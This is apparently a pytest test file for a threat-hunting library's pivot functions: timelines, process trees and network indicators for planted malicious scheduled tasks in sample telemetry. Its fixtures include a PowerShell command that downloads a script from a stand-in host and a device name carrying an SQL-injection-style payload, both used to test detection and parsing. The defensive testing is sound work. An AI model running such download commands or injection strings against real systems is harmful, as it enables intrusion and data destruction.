"""Pivots: each planted task's full timeline, its process tree and its network indicators."""

from __future__ import annotations

import warnings
from unittest import mock

import pandas as pd
import pytest
import yaml

from hunting_lib.hunt import run_hunt
from hunting_lib.params import HuntParams
from hunting_lib.pivots import pivot
from tests.conftest import SAMPLE_DATA

SCENARIOS = yaml.safe_load((SAMPLE_DATA / "scenarios.yaml").read_text(encoding="utf-8"))["scenarios"]
PLANTED = [s for s in SCENARIOS if s["kind"] == "malicious"]


@pytest.fixture(scope="module", params=["seed", "process"])
def result(request):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return run_hunt(SAMPLE_DATA, HuntParams(max_devices=1, match=request.param))


def task_id(result, scenario) -> int:
    rare = result.rare_tasks
    row = rare[(rare["FileName"] == scenario["FileName"]) & (rare["ProcessCommandLine"] == scenario["ProcessCommandLine"])
               & (rare["FolderPath"] == scenario["FolderPath"])]
    assert len(row) == 1, scenario["id"]
    return int(row["TaskId"].iloc[0])


@pytest.mark.parametrize("scenario", PLANTED, ids=lambda s: s["id"])
def test_timeline_is_exactly_the_planted_rows(result, scenario):
    timeline = pivot.task_timeline(result, task_id(result, scenario))
    expected = {rid for ids in scenario["report_ids"].values() for rid in ids}
    got = set(timeline["ReportId"].astype(int))
    assert got == expected, (sorted(expected - got)[:5], sorted(got - expected)[:5])
    assert timeline["Timestamp"].is_monotonic_increasing
    assert timeline["What"].str.len().gt(0).all()
    starts = timeline[timeline["Depth"] == -1]
    assert len(starts) == scenario["runs"] and starts["What"].str.startswith("Task Scheduler started").all()


def test_what_column_reads_like_a_sentence(result):
    planted = next(s for s in PLANTED if s["id"] == "mal-encoded-powershell")
    what = " | ".join(pivot.task_timeline(result, task_id(result, planted))["What"])
    assert "ConnectionSuccess 185." in what or "ConnectionSuccess 45." in what or "ConnectionSuccess 91." in what
    assert "RegistryValueSet HKEY_" in what and "started whoami.exe" in what


@pytest.mark.parametrize("scenario", PLANTED, ids=lambda s: s["id"])
def test_process_tree_is_rooted_at_the_schedule_service(result, scenario):
    before = result.task_starts.copy()
    tree = pivot.process_tree(result, task_id(result, scenario))
    pd.testing.assert_frame_equal(result.task_starts, before)  # nothing of ours was mutated
    top = tree.sort_values("path").iloc[0]
    assert top["CreatedProcessName"].lower() == "svchost.exe"
    names = set(tree["CreatedProcessName"].str.lower())
    assert scenario["FileName"].lower() in names
    timeline = pivot.task_timeline(result, task_id(result, scenario))
    started = timeline[(timeline["Table"] == "DeviceProcessEvents")]
    assert len(tree) == len(started) + 1  # every started process, plus the svchost root


def test_plots_embed_no_bokeh_loader_of_their_own(result):
    from bokeh.models import ColumnDataSource

    planted = PLANTED[0]
    tree = pivot.process_tree(result, task_id(result, planted))
    timeline = pivot.task_timeline(result, task_id(result, planted))
    with mock.patch("bokeh.io.output_notebook", side_effect=AssertionError("BokehJS loaded again")):
        tree_plot = pivot.process_tree_plot(tree)
        timeline_plot = pivot.timeline_plot(timeline)
    # what the plots draw is the pivots' rows: one node per process of the tree ...
    (nodes,) = [s.data for s in tree_plot.select({"type": ColumnDataSource}) if "proc_key" in s.data]
    assert sorted(nodes["CreatedProcessName"]) == sorted(tree["CreatedProcessName"])
    assert planted["FileName"] in set(nodes["CreatedProcessName"])
    # ... and one mark per event of the timeline, each at its time, in its table's row
    events = [s.data for s in timeline_plot.select({"type": ColumnDataSource}) if "y_index" in s.data]
    drawn = sorted(pd.Timestamp(t) for data in events for t in data["Timestamp"])
    assert drawn == sorted(timeline["Timestamp"].dt.tz_localize(None))
    assert len(events) == timeline["Table"].nunique()


def test_network_indicators_with_fleet_prevalence(result):
    planted = next(s for s in PLANTED if s["id"] == "mal-encoded-powershell")
    tid = task_id(result, planted)
    indicators = pivot.network_indicators(result, tid).set_index("Indicator")
    timeline = pivot.task_timeline(result, tid)
    contacted = set(result.data["DeviceNetworkEvents"].set_index("ReportId").loc[
        list(set(timeline["ReportId"]) & set(result.data["DeviceNetworkEvents"]["ReportId"])), "RemoteIP"])
    assert contacted and contacted <= set(indicators.index)
    network = result.data["DeviceNetworkEvents"]
    for ip in contacted:
        expected = network.loc[network["RemoteIP"] == ip, "DeviceName"].nunique()
        assert indicators.loc[ip, "FleetDevices"] == expected
        assert indicators.loc[ip, "IPKind"] in ("public", "private")
    public = indicators[indicators["IPKind"] == "public"]
    assert len(public) >= 1 and public["Source"].str.contains("command line").any()


def test_whole_hunt_indicators_cover_every_planted_c2():
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        result = run_hunt(SAMPLE_DATA, HuntParams(max_devices=1))
    indicators = pivot.network_indicators(result)
    public = indicators[indicators["IPKind"] == "public"]
    tasks_with_public = {t for ids in public["TaskIds"] for t in ids}
    for scenario in PLANTED:
        if "DeviceNetworkEvents" in scenario["activity_tables"]:
            assert task_id(result, scenario) in tasks_with_public, scenario["id"]


def test_a_scanned_hunts_pivots_read_hostile_names_and_urls_as_the_loaded_tables(tmp_path):
    """A scanned hunt's pivots filter in the parquet reader (``engine.slices``): a device name
    with quotes and brackets, URLs in mixed case, with ports, or with a non-ASCII letter that
    Python lower-cases to ASCII (the Kelvin sign) must give what the loaded tables give."""
    from hunting_lib.engine.loader import load_data_folder
    from hunting_lib.engine.local import LocalTables
    from hunting_lib.hunt import hunt_columns
    from tests.conftest import activity, task_start, typed

    device = "pc-\"01'); drop table x; --]"
    shell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
    command = "powershell.exe -nop -c iwr http://Kiosk.Example.com/a.ps1"
    network = [
        activity("powershell.exe", command, shell, device=device, RemoteIP="203.0.113.7",
                 RemoteUrl="HTTP://Kiosk.Example.COM:8080/a.ps1", RemotePort=8080, ReportId=1),
        activity("chrome.exe", "chrome.exe", r"C:\chrome.exe", device="pc-02", RemoteIP="203.0.113.7", ReportId=2),
        activity("edge.exe", "edge.exe", r"C:\edge.exe", device="pc-03", RemoteIP="198.51.100.9",
                 RemoteUrl="http://\u212aiosk.example.com/b", ReportId=3),  # lower-cases to kiosk.example.com
        activity("curl.exe", "curl.exe", r"C:\curl.exe", device="pc-04", RemoteIP="198.51.100.10",
                 RemoteUrl="https://KIOSK.example.com", ReportId=4),
        activity("curl.exe", "curl.exe", r"C:\curl.exe", device="pc-05", RemoteIP="198.51.100.11",
                 RemoteUrl="https://kiosk.example.com.evil.test/", ReportId=5),  # another host
    ]
    typed("DeviceProcessEvents", [task_start("powershell.exe", command, shell, device=device)]).to_parquet(
        tmp_path / "DeviceProcessEvents.parquet")
    typed("DeviceNetworkEvents", network).to_parquet(tmp_path / "DeviceNetworkEvents.parquet")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        scanned = run_hunt(LocalTables(tmp_path), HuntParams())
        full = run_hunt(load_data_folder(tmp_path, columns=hunt_columns()), HuntParams())
    assert scanned.reader["reader"] == "scan" and scanned.data is None
    (task,) = full.rare_tasks["TaskId"]
    expected = pivot.network_indicators(full, task).set_index("Indicator")
    # counted from the rows above: the address on two devices; the host on three (the
    # Kelvin sign's among them), not on pc-05, whose host only begins alike
    assert expected.loc["203.0.113.7", "FleetDevices"] == 2
    assert expected.loc["http://Kiosk.Example.com/a.ps1", "FleetDevices"] == 3
    pd.testing.assert_frame_equal(pivot.network_indicators(scanned, task), pivot.network_indicators(full, task))
    pd.testing.assert_frame_equal(pivot.task_timeline(scanned, task), pivot.task_timeline(full, task))
    mine = pivot.device_network(scanned, device)
    assert list(mine["ReportId"]) == [1]
    pd.testing.assert_frame_equal(mine, pivot.device_network(full, device))
